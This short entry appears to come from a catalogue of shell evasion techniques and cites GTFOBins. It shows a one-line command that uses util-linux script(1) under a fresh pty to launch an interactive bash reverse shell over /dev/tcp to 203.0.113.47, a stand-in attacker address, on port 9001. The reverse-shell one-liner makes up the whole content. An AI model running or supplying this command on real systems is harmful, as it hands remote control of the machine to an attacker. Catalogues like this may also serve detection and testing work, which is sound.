# evasion: util-linux script(1) runs the command given with -c under a fresh pty (GTFOBins)
# grade: medium; does: shell
script -qec 'bash -i >& /dev/tcp/203.0.113.47/9001 0>&1' /dev/null
